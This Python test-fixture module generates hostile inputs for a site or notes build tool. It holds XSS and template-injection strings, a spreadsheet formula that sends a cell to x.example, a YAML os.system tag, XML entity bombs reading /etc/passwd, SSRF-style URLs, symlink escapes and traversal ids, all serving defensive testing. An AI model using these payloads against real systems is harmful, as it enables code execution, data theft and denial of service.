"""Bad input of every kind, made by code, so that no repository holds files with such names and contents.

Each :class:`Case` is one kind of bad input: the files it is made of, which of them are pages all the same, and which findings tell of it.
:func:`write_bad_input` writes all of them, or some, into one folder, each into a folder of its own.
"""

# ruff: noqa: E501 - contents of files
from __future__ import annotations

import os
import socket
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path

from msgspec import Struct

__all__ = ["CASES", "HOSTILE", "LARGE", "MARKS", "Case", "write_bad_input"]

MARKS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{ 7 * 7 }}", "{% include '/etc/passwd' %}")
"""Markup that must never come out unescaped."""

HOSTILE = {
    "html": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover='alert(1)' x=\"",
    "sparql": '"} } ; DROP ALL ; INSERT DATA { <a> <b> "c',
    "turtle": '""" . <http://x/> <http://y/> <http://z/> . #',
    "iri": "a> <b> <c> .\\u003e \\ ^ ` | {x}",
    "formula": '=HYPERLINK("http://x.example/?"&A1,"x")',
    "formula2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dot": '"]; evil [label="x", URL="javascript:alert(1)"]; digraph {',
    "jinja": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${{<%[%'\"}}%\\.",
    "liquid": "{% raw %}{{ site.secret }}{% endraw %}{%- assign x = 1 -%}",
    "csv": 'a,b;c\t"d""e"',
    "control": "tab\\tbell\\aescape\\x1b[31mnul\\x00",
    "rtl": "\u202egpj.exe\u202c \u2066x\u2069",
    "zalgo": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324",
    "long": "x" * 5000,
    "surrogate": "\\ud800 \\udfff",
}
"""Titles that are code somewhere, by what they are; escapes are those of JSON and YAML."""


class Case(Struct, frozen=True):
    """One kind of bad input."""

    files: Mapping[str, str | bytes]
    """Content by path; ``None`` bytes are never needed, since :attr:`make` makes what is no plain file."""
    pages: tuple[str, ...] = ()
    """Files that are pages all the same."""
    found: tuple[tuple[str, str, int | None], ...] = ()
    """Path, rule and line of findings that tell of it; any line where it is None."""
    make: Callable[[Path], None] | None = None
    """Makes what is no plain file in the folder of the case."""
    catalogs: tuple[str, ...] = ()
    """Files that give rows all the same."""


def write_bad_input(folder: Path, names: Iterable[str] | None = None) -> dict[str, Case]:
    """Write cases below ``folder``, each into the folder of its name; gives those that this system can make."""
    made: dict[str, Case] = {}
    for name in names or CASES:
        case = CASES[name]
        place = folder / name
        place.mkdir(parents=True, exist_ok=True)
        for path, content in case.files.items():
            target = place / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass"))
        if case.make:
            case.make(place)
        made[name] = case
    return made


def _page(front: str, body: str = "Text of the page.\n") -> str:
    return f"---\n{front}\n---\n{body}"


def _bomb(levels: int = 12) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, levels)]
    return "\n".join(lines)


def _laughs(root: str, content: str) -> str:
    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{entities}<!ENTITY ext SYSTEM "file:///etc/passwd">]>\n{content}'


def _special(place: Path) -> None:
    os.mkfifo(place / "pipe.md")
    os.mkfifo(place / "pipe.yaml")
    (place / "folder.md").mkdir()
    (place / "folder.md" / "inner.md").write_text("# Inner\n")
    (place / "rows.yaml").mkdir()
    (place / "mkdocs.yml").mkdir()
    here = Path.cwd()
    with socket.socket(socket.AF_UNIX) as end:
        os.chdir(place)  # the path of a socket has room for 107 bytes
        try:
            end.bind("socket.md")
        finally:
            os.chdir(here)


def _links(place: Path) -> None:
    outside = place.parent.parent / "outside-of-the-root"
    outside.mkdir(exist_ok=True)
    (outside / "secret.md").write_text("# Secret\n\nThe password is swordfish.\n")
    (outside / "secret.yaml").write_text("- {id: swordfish, title: Swordfish}\n")
    (place / "out.md").symlink_to(outside / "secret.md")
    (place / "out.yaml").symlink_to(outside / "secret.yaml")
    (place / "up.md").symlink_to("../../outside-of-the-root/secret.md")
    (place / "out").symlink_to(outside)
    (place / "device.md").symlink_to("/dev/zero")
    (place / "self.md").symlink_to("self.md")
    (place / "ping.md").symlink_to("pong.md")
    (place / "pong.md").symlink_to("ping.md")
    (place / "loop").symlink_to(".")
    (place / "gone.md").symlink_to("nothing.md")
    (place / "inside.md").symlink_to("a.md")


def _undecodable(place: Path) -> None:
    for name in (b"bad\xff\xfe.md", b"bad\xe9.yaml"):
        Path(os.fsdecode(os.fsencode(place) + b"/" + name)).write_text("# Bad name\n")


_ODD_NAMES = {
    "new\nline.md": "# N\n", "quote\"'`.md": "# Q\n", "emoji 👩\u200d🌾.md": "# E\n", "rtl \u202egpj.md": "# R\n", "pct%2e%2e%2f%00.md": "# P\n",
    "-rf.md": "# Dash\n", "a;b|c&d$(e).md": "# Shell\n", "x#y?z.md": "# Address\n", "<b>.md": "No title in here.\n", "[[x]].md": "# B\n",
    "con.md": "# Con\n", "dot..md": "# Dots\n", "back\\slash.md": "# Back\n", "sp ace .md": "# Space\n",
    "{{x}}{%y%}.md": "No title in here.\n", "bell\x07.md": "# Bell\n", "x" * 240 + ".md": "# Long\n",
}  # fmt: skip
_DEEP = 10_000

CASES: dict[str, Case] = {
    "yaml-bomb": Case(
        {"a.md": _page(_bomb()), "rows.yaml": _bomb(), "list.yaml": "- id: x\n  y: &y [1, *y]\n"},
        pages=("a.md",), found=(("a.md", "W108", None), ("rows.yaml", "E104", None)),
    ),
    "yaml-tags": Case(
        {
            "a.md": _page("title: Tags\nx: !!python/object/apply:os.system ['touch executed']\ny: !include /etc/passwd"),
            "rows.yaml": "- id: tagged\n  title: !!python/object/apply:os.system ['touch executed']\n  x: !env SECRET\n",
        },
        pages=("a.md",),
    ),
    "yaml-keys": Case(
        {
            "a.md": _page("title: One\ntitle: Two"), "rows.yaml": "- id: twice\n  id: thrice\n",
            "merge.md": _page("a: &a {x: 1}\n<<: *a\n? [1, 2]\n: complex\n? {a: b}\n: c\nnull: x\ntrue: y\n1.5: z"),
        },
        pages=("a.md", "merge.md"), found=(("a.md", "W106", 3), ("rows.yaml", "W106", 2)),
    ),
    "many-keys": Case(
        {
            "a.md": _page("\n".join(f"k{n}: {n}" for n in range(10_001))),
            "wide.csv": "id," + ",".join(f"c{n}" for n in range(10_001)) + "\nwide" + ",1" * 10_001 + "\n",
            "rows.json": '[{"id": "broad"' + "".join(f', "k{n}": {n}' for n in range(10_001)) + "}]",
        },
        pages=("a.md",), found=(("a.md", "E103", 2), ("wide.csv", "W107", 2), ("rows.json", "W107", None)),
    ),
    "yaml-tabs": Case({"a.md": _page("title: T\n\tx: 1"), "b.md": _page("title:\tT\nx:\t- 1")}, pages=("a.md", "b.md"), found=(("a.md", "E103", 3),)),
    "yaml-values": Case(
        {
            "numbers.md": _page(f"title: N\na: {'9' * 10_000}\nb: 1e999999\nc: .nan\nd: -.inf\ne: 0x{'f' * 5000}\nf: 1:{':59' * 999}\nquality: .inf"),
            "handles.md": _page("title: H\nauthor: @handle\ntags: [a, b]\nx: `code`\ny: %z"),
            "dates.md": _page("title: D\ndate: 2024-02-31\nupdated: 9999-99-99\nlastmod: 0000-00-00T00:00:00Z"),
            "shapes.md": _page("title: [a, {b: c}]\nid: {x: 1}\naliases: {a: b}\ntags: 5\ntype: [x]\nrelated: {a: {b: {c: d}}}\ndescription: [1]"),
            "list.md": _page("- a\n- b"), "text.md": _page("only words"), "open.md": "---\ntitle: never closed\n",
            "rows.yaml": f"- id: 5\n- id: null\n- id: ''\n- id: [a]\n- id: {'9' * 5000}\n- just text\n- {{title: none}}\n- id: 1e400\n",
        },
        pages=("numbers.md", "handles.md", "dates.md", "shapes.md", "list.md", "text.md", "open.md"),
        found=(("handles.md", "W108", 3), ("handles.md", "W108", 5), ("handles.md", "W108", 6), ("list.md", "E103", None)),
    ),
    "bytes": Case(
        {
            "latin.md": b"# Caf\xe9\n\nna\xefve\n", "nul.md": b"# N\x00ul\n\n\x00[[latin]]\x00\n", "bom.md": b"\xef\xbb\xbf# Bom\n",
            "utf16.md": "# Wide\n\n[[latin]]\n".encode("utf-16"), "crlf.md": b"---\r\ntitle: Lines\r\n---\r\n\r\n[[latin]]\r\n\r[[nul]]\r",
            "empty.md": b"", "blank.md": b" \n\t\n", "random.md": bytes(range(256)) * 20, "control.md": b"\x01\x02\x03\x0b\x0c\x1b[31m\x7f# C\n",
            "surrogates.md": "\ud800 x \udfff".encode("utf-8", "surrogatepass"), "noncharacter.md": "\ufffe\uffff\U0010ffff".encode(),
            "nul.yaml": b"- id: n\x00ul\n", "latin.csv": b"id,title\ncafe,Caf\xe9\n", "nul.json": b'[{"id": "a\\u0000b", "title": "\\ud800"}]',
            "half.html": b"<title>H</title><script type='application/ld+json'>{\"@type\": \"Thing\", \"name\": \"a\\ud800\"}</script>",
            "half.jsonl": b'{"id": "half", "\\udfff": "\\ud800"}\n', "half.toml": b'[[x]]\nid = "half"\ny = "\\ud800"\n',
            "half.md": b'---\ntitle: "a\\ud800"\n"\\udfff": x\n---\n', "half-json.md": b'{"title": "a\\ud800", "\\udfff": 1}\nText\n',
            "latin.html": b"<title>Caf\xe9</title>", "empty.yaml": b"", "empty.json": b"", "empty.csv": b"", "empty.toml": b"", "empty.ttl": b"",
            "empty.html": b"", "empty.mdx": b"", "zip.md": b"PK\x03\x04" + bytes(60), "image.md": b"\x89PNG\r\n\x1a\n" + bytes(60),
            "archive.zip.md": b"# Zip\n", "a.tar.gz.mdx": b"# Tar\n", "../bytes/x.md": b"# X\n",
        },
        pages=("latin.md", "nul.md", "bom.md", "utf16.md", "crlf.md", "empty.md", "blank.md", "random.md", "control.md", "surrogates.md",
               "noncharacter.md", "latin.html", "empty.html", "empty.mdx", "zip.md", "image.md", "archive.zip.md", "a.tar.gz.mdx"),
        found=(("latin.md", "W105", 1), ("random.md", "W105", None), ("surrogates.md", "W105", 1), ("latin.html", "W105", 1), ("nul.yaml", "E104", None)),
    ),
    "many-links": Case(
        {
            "a.md": "# Many\n\n" + "".join(f"[[p{n}]] " for n in range(20_000)) + "\n\n" + "[x](b.md) " * 70_000, "b.md": "# B\n",
            "c.html": "<title>C</title><main>" + "<a href='b.md'>b</a> " * 10_000 + "</main>",
        },
        pages=("a.md", "b.md", "c.html"), found=(("a.md", "W201", 3),),
    ),
    "deep": Case(
        {
            "quotes.md": "> " * _DEEP + "deep\n", "lists.md": "".join(f"{' ' * (2 * n)}- x\n" for n in range(1_000)), "dashes.md": "- " * _DEEP + "deep\n",
            "numbers.md": "1. " * _DEEP + "deep\n", "html.md": "<div>" * _DEEP + "deep" + "</div>" * _DEEP, "jsx.mdx": "<A x='1'>" * _DEEP + "deep",
            "braces.mdx": "{" * _DEEP + "}" * _DEEP, "brackets.md": "[" * _DEEP + "x" + "](y)" * _DEEP, "images.md": "![" * _DEEP + "](y)" * _DEEP,
            "emphasis.md": "*a " * _DEEP + "_b" * _DEEP, "tree.html": "<title>Tree</title>" + "<div><p>" * _DEEP + "deep",
            "tables.html": "<table><tr><td>" * _DEEP, "front.md": _page("a: " + "[" * _DEEP + "]" * _DEEP), "map.md": _page("a: " + "{x: " * _DEEP + "}" * _DEEP),
            "rows.yaml": "".join(f"{' ' * n}- \n" for n in range(2_000)), "flow.yaml": "[" * _DEEP, "rows.json": "[" * _DEEP + "]" * _DEEP,
            "objects.json": '{"a":' * _DEEP + "1" + "}" * _DEEP, "rows.toml": "a = " + "[" * _DEEP + "]" * _DEEP, "keys.toml": ".".join(["a"] * _DEEP) + " = 1",
            "front-toml.md": "+++\na = " + "[" * _DEEP + "]" * _DEEP + "\n+++\nText\n", "front-json.md": '{"a":' + "[" * _DEEP + "]" * _DEEP + "}\nText\n",
            "lines.jsonl": '{"id": "a", "b": ' + "[" * _DEEP + "]" * _DEEP + "}\n", "lists.ttl": "<a> <b> " + "(" * _DEEP + ")" * _DEEP + " .",
            "blanks.ttl": "<a> <b> " + "[ <c> " * _DEEP + "]" * _DEEP + " .", "deep.jsonld": '{"@id": "a", "b": ' * _DEEP + "1" + "}" * _DEEP,
            "deep.rdf": "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>" + "<rdf:Description><a:b xmlns:a='http://a/'>" * _DEEP,
            "data.html": "<title>D</title><script type='application/ld+json'>" + "[" * _DEEP + "</script>",
        },
        pages=("quotes.md", "lists.md", "dashes.md", "numbers.md", "html.md", "jsx.mdx", "braces.mdx", "brackets.md", "images.md", "emphasis.md",
               "tree.html", "tables.html", "front.md", "map.md", "front-toml.md", "data.html"),
        found=(("front.md", "E103", None), ("map.md", "E103", None), ("rows.yaml", "E104", None), ("flow.yaml", "E104", None),
               ("rows.json", "E104", None), ("objects.json", "E104", None), ("rows.toml", "E104", None), ("front-toml.md", "E103", None),
               ("tree.html", "W110", None)),
    ),
    "slow-markdown": Case(
        {
            f"s{number}.md": start + piece * (60_000 // len(piece)) + end
            for number, (start, piece, end) in enumerate((
                ("", "[", ""), ("", "![[", ""), ("", "[a](", ""), ("", "[a](<b", ""), ("", "*a_ ", ""), ("", "**x** *", ""), ("", "`a``", ""), ("", "<!--", ""),
                ("", "<a ", ""), ("", "<![CDATA[", ""), ("", "<?", ""), ("", "~~~\n", ""), ("", "$a$$", ""), ("", "[^a]", ""), ("", "[^a]: x\n", ""),
                ("", "| a ", "\n|-|\n"), ("|a|\n|-|\n", "|x\n", ""), ("", "[a]: b\n", "[a]" * 9000), ("", "\\", ""), ("", "&amp", ""), ("", "- a\n\n", ""),
                ("", "a\n=\n", ""), ("", "#a ", ""), ("", "%%", ""), ("", " ^a", ""), ("", "{#a", ""), ("", "x@y.", ""), ("", "http://", ""), ("", "{{<", ""),
                ("", "{%", ""), ("", "]] [[", ""), ("", "[[a|", ""), ("", "\t", "x"), ("", "<a b=", ""), ("---\n", "a: b\n", ""), ("", "a. b@c.d ", ""),
            ))
        },
        pages=tuple(f"s{number}.md" for number in range(36)),
    ),
    "xml": Case(
        {
            "laughs.html": _laughs("html", "<html><head><title>Laughs</title></head><body><p>&l11; &ext;</p></body></html>"),
            "laughs.xhtml": _laughs("html", "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>Laughs</title></head><body><p>&l11;</p></body></html>"),
            "laughs.rdf": _laughs("rdf:RDF", "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description rdf:about='http://x/'>"
                                  "<a:b xmlns:a='http://a/'>&l11;&ext;</a:b></rdf:Description></rdf:RDF>"),
            "context.jsonld": '{"@context": "http://127.0.0.1:9/context.jsonld", "@id": "http://x/a", "name": "x"}',
            "file.jsonld": '{"@context": "file:///etc/passwd", "@id": "http://x/a", "name": "x"}',
            "base.html": "<base href='file:///etc/'><title>Base</title><a href='passwd'>x</a><link rel=canonical href='javascript:alert(1)'>",
            "frames.html": "<title>Frames</title><iframe src='http://127.0.0.1:9/'></iframe><object data='file:///etc/passwd'></object><embed src=x>",
            "attributes.html": "<title>At</title><p " + " ".join(f"a{n}='{n}'" for n in range(50_000)) + ">x</p>",
            "entities.html": "<title>E</title><p>" + "&notin;&#x110000;&#0;&lt;script&gt;" * 5_000 + "</p>",
            "open.html": "<title>O</title>" + "<b><i><a href=x>" * 5_000, "script.html": "<title>S</title><script>" + "<" * 50_000,
            "title.html": "<title>" + "<" * 50_000, "comment.html": "<!--" * 20_000,
        },
        pages=("laughs.html", "laughs.xhtml", "base.html", "frames.html", "attributes.html", "entities.html", "open.html"),
        found=(("laughs.rdf", "E104", None), ("context.jsonld", "E104", None), ("file.jsonld", "E104", None)),
    ),
    "special": Case({"a.md": "# A\n\n[[pipe]] [[socket]] [x](folder.md)\n"}, pages=("a.md", "folder.md/inner.md"), make=_special,
                    found=(("pipe.md", "W111", 0), ("pipe.yaml", "W111", 0), ("socket.md", "W111", 0))),
    "links": Case({"a.md": "# A\n\n[out](../../outside-of-the-root/secret.md) [[swordfish]]\n"}, pages=("a.md", "inside.md"), make=_links,
                  found=tuple((name, "W111", 0) for name in ("out.md", "out.yaml", "up.md", "out", "device.md", "self.md", "ping.md", "pong.md", "gone.md"))),
    "names": Case(_ODD_NAMES, pages=tuple(name for name in _ODD_NAMES if name.isprintable() or "\u200d" in name or "\u202e" in name), make=_undecodable,
                  found=tuple((name, "W111", 0) for name in ("new\\nline.md", "bell\\x07.md", "bad\\udcff\\udcfe.md", "bad\\udce9.yaml"))),
    "alike": Case(
        {
            "Note.md": "# Note\n\n[[note]] [[NOTE]]\n", "note.md": "# note\n", "NOTE.md": "# NOTE\n", "caf\u00e9.md": "# One\n", "cafe\u0301.md": "# Two\n",
            "x.md": "# X\n", "x.mdx": "# X\n", "x/index.md": "# X\n", "x.html": "<title>X</title>", "index.md": "# I\n", "INDEX.md": "# I\n",
            "README.md": "# I\n", "\ufb01.md": "# fi\n", "fi.md": "# fi\n",
        },
        pages=("Note.md", "note.md", "NOTE.md", "caf\u00e9.md", "cafe\u0301.md", "x.md", "x.mdx", "x/index.md", "x.html", "\ufb01.md", "fi.md"),
    ),
    "circles": Case(
        {
            "a.html": "<meta http-equiv=refresh content='0; url=b.html'>", "b.html": "<meta http-equiv=refresh content='0; url=a.html'>",
            "self.html": "<meta http-equiv=refresh content='0; url=self.html'>", "away.html": "<meta http-equiv=refresh content='0; url=javascript:alert(1)'>",
            "gone.html": "<meta http-equiv=refresh content='0; url=nothing.html'>",
            "own.md": _page("title: Own\nparent: own\nrelated: [own, Own, nobody, '', '[[own]]', 5, null, {id: own}]\naliases: [Own, own, /own/]\nsupersedes: own",
                            "[[own]] [x](own.md) [y](#) [[#z]] ![[own]] [e]() [](own.md)\n"),
            "one.md": _page("parent: two", "![[two]]\n"), "two.md": _page("parent: one", "![[one]]\n"),
            "rows.yaml": "- {id: own-row, parent: own-row, relatedEntries: [{id: own-row}, {id: nowhere}, {}, 5]}\n",
        },
        pages=("own.md", "one.md", "two.md"),
        found=(("a.html", "W208", None), ("b.html", "W208", None), ("self.html", "W208", None), ("gone.html", "W208", None), ("own.md", "W204", 4)),
    ),
    "titles": Case(
        {
            **{f"t{number}.md": f'---\ntitle: "{title}"\ntags: ["{title}"]\ntype: "{title[:60]}"\n---\n[[{title[:80]}]] says {title}\n'
               for number, title in enumerate(text if "\\" in text and '"' not in text else text.replace("\\", "\\\\").replace('"', '\\"') for text in HOSTILE.values())},
            **{f"h{number}.md": f"# {text}\n\n[{text}](t{number}.md) and [x](<javascript:alert(1)>) [y](data:text/html,x)\n" for number, text in enumerate(HOSTILE.values())},
            "x.html": "<title>&lt;script&gt;alert(1)&lt;/script&gt;</title><h1>&lt;img src=x onerror=alert(1)&gt;</h1><a href='javascript:alert(1)'>x</a>",
        },
        pages=(*(f"{kind}{number}.md" for number in range(len(HOSTILE)) for kind in "th"), "x.html"),
    ),
    "ids": Case(
        {
            **{f"i{number}.md": f"---\nid: '{name}'\n---\n# Id {number}\n\n[[{name}]] <EntityLink id='{name}'>x</EntityLink>\n" for number, name in enumerate((
                "../../x", "/etc/passwd", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "..", ".", "CON", "a/../../b", "C:\\x", "a//b",
                "~", "-rf", "http://x.example/y", "javascript:alert(1)", "%2e%2e/%2e%2e", "a?b#c", "a\u202eb", "\U0001f33e", "x" * 300, "a/" * 150 + "b", "a b",
                "index.json", "pages", "related.json", "manifest.json", "con/aux/nul", "a\tb", "<b>", "{{x}}", "=1+1", "A", "a", "i1",
            ))},
            "control.md": '---\nid: "a\\0b\\x1b[31m\\nc\\uFFFE"\naliases: ["n\\0", "x\\x1b", "\\uFFFF"]\ntags: ["t\\0"]\ntype: "k\\0"\n"key\\0": "v\\0"\n---\n[[a\\0b]]\n',
            "control-json.md": '{"id": "j\\u0000", "title": "\\u0007", "related": ["x\\u0000"]}\nText\n',
            "rows.yaml": "- {id: ../../row, title: Row}\n- {id: __proto__, title: P}\n- {id: '', title: E}\n- {id: ' ', title: S}\n- {id: 'x/..', title: X}\n",
            "proto.json": '[{"id": "__proto__", "constructor": {"prototype": 1}, "__proto__": {"title": "p"}}]',
        },
        pages=tuple(f"i{number}.md" for number in range(36)),
    ),
    "settings": Case(
        {
            "mkdocs.yml": _bomb(), "_config.yml": "!!python/object/apply:os.system ['touch executed']", "hugo.toml": "a = " + "[" * 2_000,
            "docusaurus.config.js": "require('fs').writeFileSync('executed', '')", "astro.config.mjs": "(" * 5_000, "quartz.config.ts": "x",
            ".gitignore": "[\n\\\na\\\n[z-a]\n" + "**/" * 300 + "zz\n" + "*a" * 200 + "b\n!\n", "a" * 200 + "/x.md": "# X\n", "a.md": "# A\n",
        },
        pages=("a.md",),
    ),
}  # fmt: skip
"""Every kind by name."""

LARGE: dict[str, Callable[[], bytes]] = {
    "line.md": lambda: b"word " * 10_000_000,
    "line.yaml": lambda: b"- id: x\n  y: " + b"x" * 50_000_000,
    "line.html": lambda: b"<title>Line</title><p>" + b"word " * 10_000_000,
}
"""Files of 50 MB in one line, by name."""
